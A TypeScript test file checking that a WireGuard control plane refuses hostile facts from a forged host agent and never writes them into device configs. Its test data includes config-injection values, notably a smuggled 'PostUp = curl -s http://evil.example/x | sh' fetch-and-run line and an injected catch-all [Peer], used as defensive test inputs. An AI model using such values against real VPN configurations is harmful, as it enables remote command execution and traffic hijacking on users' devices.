/**
 * A host credential is not trusted with people's WireGuard configs: a forged agent reporting
 * hostile WireGuard facts (a `PostUp` line, a second `[Peer]`) is refused at the gateway and its
 * values never reach a device config, nor do such facts stored before they were checked.
 */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { eq } from "drizzle-orm";
import { generateKeyPair } from "../../shared/crypto/x25519";
import { hosts, users } from "../../shared/db/schema";
import { bodyAt, fetchApi, type ApiMethod } from "../support/api";
import { signedInUser } from "../support/harness";
import { startControlPlane, type RunningControlPlane } from "../support/control-plane";
import { ScriptedAgent } from "../support/scripted-agent";
import { waitFor } from "../queue/wait";

let cp: RunningControlPlane;
before(async () => {
  cp = await startControlPlane({ heartbeatMs: 500 });
});
after(() => cp.close());

const run = Date.now().toString(36);
let counter = 0;
const api = <M extends ApiMethod, P extends string>(method: M, path: P, body?: unknown, cookie = cp.adminCookie) =>
  fetchApi(cp.url, method, `/api/v1${path}`, { body, headers: cookie ? { cookie } : {} });

async function enrolledHost(publicAddress?: string): Promise<{ id: string; credential: string }> {
  const created = await api("POST", "/hosts", { name: `hostile-${run}-${counter++}`, ...(publicAddress ? { publicAddress } : {}) });
  assert.equal(created.status, 201, JSON.stringify(created.body));
  const enrolled = await api("POST", "/agent/enroll", { token: created.body.enrollmentToken }, "");
  assert.equal(enrolled.status, 201);
  return { id: created.body.host.id, credential: enrolled.body.credential };
}

const storedFacts = async (hostId: string) => (await cp.h.services.db.select({ facts: hosts.facts }).from(hosts).where(eq(hosts.id, hostId)))[0]?.facts;

const goodWireGuard = () => ({ interface: "wg0", publicKey: generateKeyPair().publicKey, listenPort: 51_820, address: "10.9.0.1/24", endpoint: "vpn.example.org:51820" });
const counts = { cpus: 2, memoryBytes: 8 * 2 ** 30, diskFreeBytes: 2 ** 36, runningInstances: 0, instances: 0 };

const INJECTED = /PostUp|PreUp|PostDown|0\.0\.0\.0\/0|evil/;

/** Each field of the WireGuard block with a value that would add lines to a wg-quick config. */
const hostile: [field: string, value: unknown][] = [
  ["endpoint", "vpn.example.org:51820\nPostUp = curl -s http://evil.example/x | sh"],
  ["endpoint", "vpn.example.org:51820\n\n[Peer]\nPublicKey = x\nAllowedIPs = 0.0.0.0/0"],
  ["endpoint", "vpn.example.org:51820 PostUp=id"],
  ["endpoint", "[2001:db8::1]:51820]"],
  ["endpoint", "vpn.example.org:0"],
  ["endpoint", "vpn.example.org"],
  ["interface", "wg0\nPostUp = id"],
  ["interface", "wg0/../eth0"],
  ["interface", "a-very-long-interface-name"],
  ["interface", ""],
  ["publicKey", `${generateKeyPair().publicKey}\nPostUp = id`],
  ["address", "10.9.0.1/24\nPostUp = id"],
  ["address", "10.9.0.1"],
];

describe("facts from a host credential", () => {
  test("hostile WireGuard facts are refused where they enter: an error naming the field, a log line, nothing stored, the connection stays", async () => {
    const host = await enrolledHost();
    const agent = await ScriptedAgent.connect(cp.url, host.credential);
    agent.hello();
    await agent.next("welcome");
    for (const [field, value] of hostile) {
      const from = agent.received.length;
      agent.send({ type: "facts", facts: { ...counts, wireguard: { ...goodWireGuard(), [field]: value } } });
      const error = await agent.next("error", from);
      assert.match(error.message, new RegExp(`facts\\.wireguard\\.${field}`), `${field}=${JSON.stringify(value)}: ${error.message}`);
      assert.equal(await storedFacts(host.id), null, `${field}=${JSON.stringify(value)} was stored`);
    }
    assert.ok(
      cp.h.mailbox.logLines.some((l) => l.includes("malformed agent frame") && l.includes("facts.wireguard.endpoint")),
      "the gateway logged the refusal",
    );
    assert.equal(agent.closed, undefined, "the connection stays");

    const good = goodWireGuard();
    agent.send({ type: "facts", facts: { ...counts, wireguard: good } });
    await waitFor(async () => (await storedFacts(host.id)) !== null, 5000, "good facts stored");
    assert.deepEqual((await storedFacts(host.id))?.wireguard, good);
    agent.close();
  });

  test("facts stored before they were checked never reach a device config: registering and downloading answer 503", async () => {
    const host = await enrolledHost("198.51.100.7");
    const { cookie, userId } = await signedInUser(cp.h);
    await cp.h.services.db.update(users).set({ homeHostId: host.id }).where(eq(users.id, userId));
    const wireguard = { ...goodWireGuard(), endpoint: null };
    await cp.h.services.db.update(hosts).set({ facts: { ...counts, wireguard } }).where(eq(hosts.id, host.id));
    const agent = await ScriptedAgent.connect(cp.url, host.credential);
    agent.hello();
    await agent.next("welcome");

    const created = await api("POST", "/devices", { name: "laptop" }, cookie);
    assert.equal(created.status, 201, JSON.stringify(created.body));
    assert.match(created.body.config, /^Endpoint = 198\.51\.100\.7:51820$/m);
    const id = created.body.device.id as string;

    for (const bad of [
      { ...wireguard, endpoint: "198.51.100.7:51820\nPostUp = curl -s http://evil.example/x | sh" },
      { ...wireguard, interface: "wg0\n[Peer]\nAllowedIPs = 0.0.0.0/0" },
    ]) {
      await cp.h.services.db.update(hosts).set({ facts: { ...counts, wireguard: bad } }).where(eq(hosts.id, host.id));
      const config = await api("GET", `/devices/${id}/config`, undefined, cookie);
      assert.equal(config.status, 503, config.text);
      assert.equal(config.body.error.code, "unavailable");
      assert.match(config.body.error.message, /WireGuard facts that are not valid/);
      assert.doesNotMatch(config.text, INJECTED);
      const another = await api("POST", "/devices", { name: "phone" }, cookie);
      assert.equal(another.status, 503, another.text);
      assert.doesNotMatch(another.text, INJECTED);
    }
    // A public address set before it was checked is refused the same way.
    await cp.h.services.db.update(hosts).set({ facts: { ...counts, wireguard }, publicAddress: "198.51.100.7\nPostUp=id" }).where(eq(hosts.id, host.id));
    const config = await api("GET", `/devices/${id}/config`, undefined, cookie);
    assert.equal(config.status, 503, config.text);
    assert.doesNotMatch(config.text, INJECTED);
    agent.close();
  });
});

describe("a host's public address (POST /hosts)", () => {
  test("anything but a DNS name or an IP address is refused with 400 naming publicAddress", async () => {
    for (const publicAddress of ["198.51.100.7:51820", "[2001:db8::1]", "vpn.example.org\nPostUp=id", "a:b", ":::::", "-bad-.example.org", "1.2.3"]) {
      const res = await api("POST", "/hosts", { name: `addr-${run}-${counter++}`, publicAddress });
      assert.equal(res.status, 400, `${JSON.stringify(publicAddress)}: ${res.text}`);
      assert.equal(res.body.error.issues?.[0]?.path, "publicAddress");
    }
  });

  test("an IPv6 address is accepted and bracketed in the device's endpoint", async () => {
    const host = await enrolledHost("2001:db8::7");
    const { cookie, userId } = await signedInUser(cp.h);
    await cp.h.services.db.update(users).set({ homeHostId: host.id }).where(eq(users.id, userId));
    const agent = await ScriptedAgent.connect(cp.url, host.credential);
    agent.hello();
    await agent.next("welcome");
    agent.send({ type: "facts", facts: { ...counts, wireguard: { ...goodWireGuard(), endpoint: null } } });
    await waitFor(async () => (await storedFacts(host.id)) !== null, 5000, "facts stored");
    const created = await api("POST", "/devices", { name: "laptop" }, cookie);
    assert.equal(created.status, 201, JSON.stringify(created.body));
    assert.match(created.body.config, /^Endpoint = \[2001:db8::7\]:51820$/m);
    agent.close();
  });
});
